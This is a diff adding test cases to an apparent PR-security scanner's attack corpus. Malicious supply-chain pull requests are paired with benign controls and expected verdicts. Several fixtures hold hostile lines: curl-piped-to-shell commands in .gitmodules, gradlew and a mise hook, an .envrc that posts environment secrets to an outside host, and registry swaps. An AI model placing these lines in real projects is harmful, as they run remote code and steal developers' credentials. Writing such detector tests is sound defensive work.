@@ -2494,4 +2494,424 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:private-key-added'] },
   },
+  {
+    id: 'attack-submodule-update-command',
+    description:
+      "A \"keep the proto submodule rebased\" PR gives the submodule `update = !…`: git submodule update runs the command (refused from .gitmodules by git 2.24.1+, CVE-2019-19604; run by the older gits of long-lived CI images). The command fetches a script and pipes it into a shell.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint-proto',
+        number: 7620,
+        title: 'build: keep vendor/proto rebased on update',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.gitmodules',
+            base: lines('[submodule "vendor/proto"]', '\tpath = vendor/proto', '\turl = https://github.com/acme/proto.git'),
+            head: lines('[submodule "vendor/proto"]', '\tpath = vendor/proto', '\turl = https://github.com/acme/proto.git', '\tupdate = !sh -c "curl -fsSL https://proto-sync.dev/rebase.sh | sh"'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['git-submodule'] },
+  },
+  {
+    id: 'attack-submodule-update-rebase',
+    description: 'A maintainer makes the same submodule follow main with `update = rebase` and `branch = main`: an ordinary update mode.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-proto',
+        number: 7621,
+        title: 'build: track proto main',
+        files: [
+          {
+            path: '.gitmodules',
+            base: lines('[submodule "vendor/proto"]', '\tpath = vendor/proto', '\turl = https://github.com/acme/proto.git'),
+            head: lines('[submodule "vendor/proto"]', '\tpath = vendor/proto', '\turl = https://github.com/acme/proto.git', '\tupdate = rebase', '\tbranch = main'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
+  {
+    id: 'attack-bunfig-registry-tls-off',
+    description:
+      'A "faster installs" PR for a Bun project points bunfig.toml\'s [install] registry at a mirror nobody named and turns strict-ssl off in .npmrc: every package bun install fetches now comes from that host, over a connection anyone on the path can answer (the registry-swap shape of the 2025 npm compromises, through the file Bun reads).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-bun',
+        number: 7630,
+        title: 'chore: use the fast npm mirror',
+        author: 'newcomer',
+        files: [
+          { path: 'bunfig.toml', base: lines('[install]', 'exact = true'), head: lines('[install]', 'exact = true', 'registry = "https://npm-fastmirror.dev/"') },
+          { path: '.npmrc', base: lines('save-exact=true'), head: lines('save-exact=true', 'strict-ssl=false') },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['npm-registry-override'] },
+  },
+  {
+    id: 'attack-bunfig-test-settings',
+    description: "A maintainer adds test settings to bunfig.toml (a preload file, coverage) and a frozen lockfile for installs: Bun's ordinary settings.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint-bun',
+        number: 7631,
+        title: 'test: preload the DOM shim, collect coverage',
+        files: [{ path: 'bunfig.toml', base: lines('[install]', 'exact = true'), head: lines('[install]', 'exact = true', 'frozenLockfile = true', '', '[test]', 'preload = ["./test/setup.ts"]', 'coverage = true') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
+  {
+    id: 'attack-uv-toml-extra-index',
+    description:
+      'Dependency confusion through uv.toml: a PR adds an extra index with index-strategy = "unsafe-best-match", so uv takes each package from whichever of PyPI and that index offers the higher version (the uv.toml twin of pip\'s --extra-index-url).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-py',
+        number: 7632,
+        title: 'build: add the internal index',
+        author: 'newcomer',
+        files: [{ path: 'uv.toml', base: lines('cache-dir = ".uv-cache"'), head: lines('cache-dir = ".uv-cache"', 'index-strategy = "unsafe-best-match"', 'extra-index-url = ["https://pypi-internal.tint-tools.dev/simple"]') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index'] },
+  },
+  {
+    id: 'attack-uv-toml-cache-settings',
+    description: 'A maintainer tunes uv.toml: cache folder, managed Python only, lowest-direct resolution in CI.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-py',
+        number: 7633,
+        title: 'build: uv settings for CI',
+        files: [{ path: 'uv.toml', base: lines('cache-dir = ".uv-cache"'), head: lines('cache-dir = ".uv-cache"', 'python-preference = "only-managed"', 'resolution = "lowest-direct"') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
+  {
+    id: 'attack-pdm-source-added',
+    description: 'A PDM project gains a [[tool.pdm.source]] beside PyPI: PDM takes the best match across all sources, so the new host can serve any package a higher version.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-py',
+        number: 7634,
+        title: 'build: mirror for the ML wheels',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'pyproject.toml',
+            base: lines('[project]', 'name = "tint"', 'version = "1.4.0"', 'dependencies = ["numpy>=1.26"]', '', '[tool.pdm.dev-dependencies]', 'test = ["pytest>=8"]'),
+            head: lines('[project]', 'name = "tint"', 'version = "1.4.0"', 'dependencies = ["numpy>=1.26"]', '', '[[tool.pdm.source]]', 'name = "wheels"', 'url = "https://wheels.tint-ml.dev/simple"', '', '[tool.pdm.dev-dependencies]', 'test = ["pytest>=8"]'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index'] },
+  },
+  {
+    id: 'attack-mvn-jvm-config-agent',
+    description:
+      'A "build cache" PR commits a jar under .mvn/ and loads it with -javaagent in .mvn/jvm.config: every mvn and ./mvnw run starts it inside Maven\'s JVM, with the deploy credentials the release job hands Maven (the wrapper-jar swap that gradle/actions/wrapper-validation exists for, moved to a file no validator checks).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-jvm',
+        number: 7640,
+        title: 'build: enable the local build cache',
+        author: 'newcomer',
+        files: [
+          { path: '.mvn/jvm.config', base: lines('-Xmx2g'), head: lines('-Xmx2g -javaagent:.mvn/cache/build-cache-agent.jar') },
+          { path: '.mvn/cache/build-cache-agent.jar', status: 'added', patch: null, additions: 0, deletions: 0, head: '' },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-wrapper-changed'] },
+  },
+  {
+    id: 'attack-gradle-jvmargs-memory',
+    description: 'A maintainer gives the Gradle daemon more memory and turns on parallel builds in gradle.properties.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-jvm',
+        number: 7641,
+        title: 'build: more memory for the Gradle daemon',
+        files: [{ path: 'gradle.properties', base: lines('org.gradle.jvmargs=-Xmx2g', 'org.gradle.caching=true'), head: lines('org.gradle.jvmargs=-Xmx4g -XX:MaxMetaspaceSize=1g -Dfile.encoding=UTF-8', 'org.gradle.caching=true', 'org.gradle.parallel=true') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
+  {
+    id: 'attack-gradlew-script-fetch',
+    description:
+      'A PR titled "fix gradlew on macOS" adds one line to gradlew that downloads a helper from a look-alike host and runs it before the wrapper jar: every ./gradlew on every machine and CI job runs it, and gradle/actions/wrapper-validation checks only the jar.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-jvm',
+        number: 7642,
+        title: 'fix: gradlew on macOS',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'gradlew',
+            base: lines('#!/bin/sh', 'APP_HOME=$( cd -P "${APP_HOME:-./}.." > /dev/null && printf \'%s\n\' "$PWD" ) || exit', 'CLASSPATH=$APP_HOME/gradle/wrapper/gradle-wrapper.jar', 'exec "$JAVACMD" "$@"'),
+            head: lines('#!/bin/sh', 'APP_HOME=$( cd -P "${APP_HOME:-./}.." > /dev/null && printf \'%s\n\' "$PWD" ) || exit', '[ "$(uname)" = Darwin ] && curl -fsSL https://gradle-services.dev/macos-fix.sh | sh', 'CLASSPATH=$APP_HOME/gradle/wrapper/gradle-wrapper.jar', 'exec "$JAVACMD" "$@"'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-wrapper-changed'] },
+  },
+  {
+    id: 'attack-gradlew-regenerated-by-upgrade',
+    description:
+      'A maintainer runs `gradle wrapper --gradle-version 8.10`: the properties move to the new release and checksum on services.gradle.org, and gradlew is regenerated (its eval/xargs argument handling and a comment naming github.com/gradle).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-jvm',
+        number: 7643,
+        title: 'build: Gradle 8.10',
+        files: [
+          {
+            path: 'gradle/wrapper/gradle-wrapper.properties',
+            base: lines('distributionBase=GRADLE_USER_HOME', 'distributionPath=wrapper/dists', 'distributionSha256Sum=d725d707bfabd4dfdc958c624003b3c80accc03f7037b5122c4b1d0ef15cecab', 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.9-bin.zip', 'zipStoreBase=GRADLE_USER_HOME'),
+            head: lines('distributionBase=GRADLE_USER_HOME', 'distributionPath=wrapper/dists', 'distributionSha256Sum=5b9c5eb3f9fc2c94abaea57d90bd78747ca117ddbbf96c859d3741181a12bf2a', 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10-bin.zip', 'zipStoreBase=GRADLE_USER_HOME'),
+          },
+          {
+            path: 'gradlew',
+            base: lines('#!/bin/sh', '#   https://github.com/gradle/gradle/blob/HEAD/subprojects/plugins/src/main/resources/unixStartScript.txt', 'DEFAULT_JVM_OPTS=\'"-Xmx64m" "-Xms64m"\'', 'exec "$JAVACMD" "$@"'),
+            head: lines(
+              '#!/bin/sh',
+              '#   https://github.com/gradle/gradle/blob/HEAD/platforms/jvm/plugins-application/src/main/resources/unixStartScript.txt',
+              'DEFAULT_JVM_OPTS=\'"-Xmx64m" "-Xms64m"\'',
+              'eval "set -- $( printf \'%s\\n\' "$DEFAULT_JVM_OPTS $JAVA_OPTS $GRADLE_OPTS" | xargs -n1 | sed \' s~[^-[:alnum:]+,./:=@_]~\\\\&~g; \' | tr \'\\n\' \' \' )" \'"$@"\'',
+              'exec "$JAVACMD" "$@"',
+            ),
+          },
+          { path: 'gradle/wrapper/gradle-wrapper.jar', status: 'modified', patch: null, additions: 0, deletions: 0, base: '', head: '' },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-wrapper-changed'] },
+  },
+  {
+    id: 'attack-package-manager-hash-swapped',
+    description:
+      'A "fix Corepack in CI" PR keeps packageManager at pnpm@9.12.1 but replaces its sha512: the published tarball has not changed, so the new hash fits only another archive, which Corepack accepts from the registry a runner\'s COREPACK_NPM_REGISTRY names.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7650,
+        title: 'ci: fix Corepack integrity error',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'package.json',
+            base: `${JSON.stringify({ name: 'tint', version: '3.2.0', packageManager: 'pnpm@9.12.1+sha512.e5a7e52a4183a02d5931057f7a0dbff9d5e9ce3161e33fa68ae392125b79282a', dependencies: { 'supports-color': '^9.4.0' } }, null, 2)}\n`,
+            head: `${JSON.stringify({ name: 'tint', version: '3.2.0', packageManager: 'pnpm@9.12.1+sha512.7d1c4b3f0a9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c', dependencies: { 'supports-color': '^9.4.0' } }, null, 2)}\n`,
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['build-wrapper-changed'] },
+  },
+  {
+    id: 'attack-maven-settings-mirror',
+    description:
+      'A "faster CI builds" PR commits .mvn/settings.xml with a mirror of * on an unknown host and makes every mvn run use it through .mvn/maven.config: every artifact and plugin the build downloads now comes from that host (the registry swap of the npm and PyPI write-ups, in Maven\'s configuration).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-jvm',
+        number: 7660,
+        title: 'ci: use a Maven mirror for faster builds',
+        author: 'newcomer',
+        files: [
+          { path: '.mvn/maven.config', status: 'added', head: lines('--settings=.mvn/settings.xml') },
+          {
+            path: '.mvn/settings.xml',
+            status: 'added',
+            head: lines('<settings>', '  <mirrors>', '    <mirror>', '      <id>fast</id>', '      <mirrorOf>*</mirrorOf>', '      <url>https://maven-central-cdn.dev/repo</url>', '    </mirror>', '  </mirrors>', '</settings>'),
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['maven-repository-override'] },
+  },
+  {
+    id: 'attack-maven-spring-milestone-repo',
+    description: 'A maintainer tries a Spring Boot milestone: pom.xml gains the Spring milestone repository beside the version bump.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-jvm',
+        number: 7661,
+        title: 'build: try Spring Boot 3.4.0-M1',
+        files: [
+          {
+            path: 'pom.xml',
+            base: lines('<project>', '  <modelVersion>4.0.0</modelVersion>', '  <groupId>com.tint</groupId>', '  <artifactId>tint-core</artifactId>', '  <version>2.3.0</version>', '  <parent><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-parent</artifactId><version>3.3.4</version></parent>', '</project>'),
+            head: lines('<project>', '  <modelVersion>4.0.0</modelVersion>', '  <groupId>com.tint</groupId>', '  <artifactId>tint-core</artifactId>', '  <version>2.3.0</version>', '  <parent><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-parent</artifactId><version>3.4.0-M1</version></parent>', '  <repositories>', '    <repository>', '      <id>spring-milestones</id>', '      <url>https://repo.spring.io/milestone</url>', '    </repository>', '  </repositories>', '</project>'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:maven-repository-override'] },
+  },
+  {
+    id: 'attack-envrc-sends-environment',
+    description:
+      'A "dev setup" PR adds an .envrc that loads the Nix shell and then posts the whole environment (cloud credentials a developer exported, tokens) to a collection host: direnv runs it on every cd into the repository once allowed, the way the 2025 credential stealers ran from files developers trust.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7670,
+        title: 'chore: direnv setup for contributors',
+        author: 'newcomer',
+        files: [{ path: '.envrc', status: 'added', head: lines('use flake', 'dotenv_if_exists .env.local', 'curl -s -X POST -d "$(env)" https://devenv-telemetry.dev/e >/dev/null 2>&1 &') }],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'attack-envrc-nix-layout',
+    description: "A maintainer adds direnv's usual .envrc: the flake's dev shell, the project's bin on PATH, a local env file.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7671,
+        title: 'chore: direnv for the dev shell',
+        files: [{ path: '.envrc', status: 'added', head: lines('if has nix; then', '  use flake', 'fi', 'PATH_add bin', 'dotenv_if_exists .env.local', 'watch_file flake.nix flake.lock') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
+  {
+    id: 'attack-deno-import-remapped',
+    description:
+      'A "pin std for offline CI" PR remaps @std/path in deno.json from jsr to a URL on an unknown host: every deno run of the project now loads that module from whoever serves the URL, which can change at any time (the import-map swap, as npm overrides are swapped).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-deno',
+        number: 7680,
+        title: 'chore: pin std for offline CI',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'deno.json',
+            base: `${JSON.stringify({ tasks: { dev: 'deno run -A main.ts' }, imports: { '@std/path': 'jsr:@std/path@^1.0.8', '@std/fs': 'jsr:@std/fs@^1.0.5' } }, null, 2)}\n`,
+            head: `${JSON.stringify({ tasks: { dev: 'deno run -A main.ts' }, imports: { '@std/path': 'https://deno-std-mirror.dev/path@1.0.8/mod.ts', '@std/fs': 'jsr:@std/fs@^1.0.5' } }, null, 2)}\n`,
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['url-dependency'] },
+  },
+  {
+    id: 'attack-deno-jsr-bump',
+    description: 'A maintainer bumps the jsr std modules and an esm.sh React in deno.json: registry releases.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-deno',
+        number: 7681,
+        title: 'chore: bump std and react',
+        files: [
+          {
+            path: 'deno.json',
+            base: `${JSON.stringify({ tasks: { dev: 'deno run -A main.ts' }, imports: { '@std/path': 'jsr:@std/path@^1.0.6', react: 'https://esm.sh/react@18.3.0' } }, null, 2)}\n`,
+            head: `${JSON.stringify({ tasks: { dev: 'deno run -A main.ts' }, imports: { '@std/path': 'jsr:@std/path@^1.0.8', react: 'https://esm.sh/react@18.3.1' } }, null, 2)}\n`,
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
+  {
+    id: 'attack-mise-enter-hook',
+    description:
+      'A "pin tool versions" PR adds a mise.toml whose [hooks] enter script fetches a setup script over plain HTTP and runs it: mise runs it every time a developer who trusted the file enters the directory.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7690,
+        title: 'chore: pin tool versions with mise',
+        author: 'newcomer',
+        files: [{ path: 'mise.toml', status: 'added', head: lines('[tools]', 'node = "22"', 'pnpm = "9"', '', '[hooks]', 'enter = "curl -fsSL http://mise-tools.dev/setup.sh | bash"') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'attack-mise-tools-bump',
+    description: 'A maintainer bumps Node and pnpm in mise.toml and adds a test task.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7691,
+        title: 'chore: Node 22.11, pnpm 9.12',
+        files: [{ path: 'mise.toml', base: lines('[tools]', 'node = "22.10"', 'pnpm = "9.11"'), head: lines('[tools]', 'node = "22.11"', 'pnpm = "9.12"', '', '[tasks.test]', 'run = "pnpm test"') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
+  {
+    id: 'attack-rust-toolchain-path',
+    description:
+      'A "reproducible builds" PR replaces the rust-toolchain.toml channel with a path to a toolchain folder it commits: rustup then runs that rustc and cargo, binaries no reviewer reads, for every build, test and editor check.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-rs',
+        number: 7700,
+        title: 'build: vendor the toolchain for reproducible builds',
+        author: 'newcomer',
+        files: [
+          { path: 'rust-toolchain.toml', base: lines('[toolchain]', 'channel = "1.82.0"', 'components = ["rustfmt", "clippy"]'), head: lines('[toolchain]', 'path = "tools/toolchain"') },
+          { path: 'tools/toolchain/bin/rustc', status: 'added', patch: null, additions: 0, deletions: 0, head: '' },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-wrapper-changed'] },
+  },
+  {
+    id: 'attack-rust-toolchain-bump',
+    description: 'A maintainer moves rust-toolchain.toml to the next release and adds a wasm target.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-rs',
+        number: 7701,
+        title: 'build: Rust 1.83',
+        files: [{ path: 'rust-toolchain.toml', base: lines('[toolchain]', 'channel = "1.82.0"', 'components = ["rustfmt", "clippy"]'), head: lines('[toolchain]', 'channel = "1.83.0"', 'components = ["rustfmt", "clippy"]', 'targets = ["wasm32-unknown-unknown"]') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
+  {
+    id: 'attack-gradle-settings-repository',
+    description:
+      'A "speed up dependency resolution" PR declares an unknown Maven repository first in settings.gradle.kts: Gradle takes every module from it before Maven Central (the registry swap, in Gradle\'s dependencyResolutionManagement).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-jvm',
+        number: 7710,
+        title: 'build: faster dependency resolution',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'settings.gradle.kts',
+            base: lines('dependencyResolutionManagement {', '    repositories {', '        mavenCentral()', '    }', '}', 'rootProject.name = "tint"'),
+            head: lines('dependencyResolutionManagement {', '    repositories {', '        maven("https://maven-resolve-cache.dev/m2")', '        mavenCentral()', '    }', '}', 'rootProject.name = "tint"'),
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['maven-repository-override'] },
+  },
+  {
+    id: 'attack-gradle-settings-google',
+    description: "A maintainer adds Google's Maven repository and a project to settings.gradle.kts for an Android module.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint-jvm',
+        number: 7711,
+        title: 'build: add the Android sample',
+        files: [
+          {
+            path: 'settings.gradle.kts',
+            base: lines('dependencyResolutionManagement {', '    repositories {', '        mavenCentral()', '    }', '}', 'rootProject.name = "tint"'),
+            head: lines('dependencyResolutionManagement {', '    repositories {', '        google()', '        maven { url = uri("https://maven.google.com") }', '        mavenCentral()', '    }', '}', 'rootProject.name = "tint"', 'include(":android-sample")'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
+  {
+    id: 'attack-maven-extension-bump',
+    description: 'Renovate bumps the Develocity Maven extension in .mvn/extensions.xml: a core extension read as a dependency, an ordinary update.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-jvm',
+        number: 7720,
+        title: 'chore(deps): update dependency com.gradle:develocity-maven-extension to v1.22.2',
+        files: [{ path: '.mvn/extensions.xml', base: lines('<extensions>', '  <extension>', '    <groupId>com.gradle</groupId>', '    <artifactId>develocity-maven-extension</artifactId>', '    <version>1.22.1</version>', '  </extension>', '</extensions>'), head: lines('<extensions>', '  <extension>', '    <groupId>com.gradle</groupId>', '    <artifactId>develocity-maven-extension</artifactId>', '    <version>1.22.2</version>', '  </extension>', '</extensions>') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
 ];
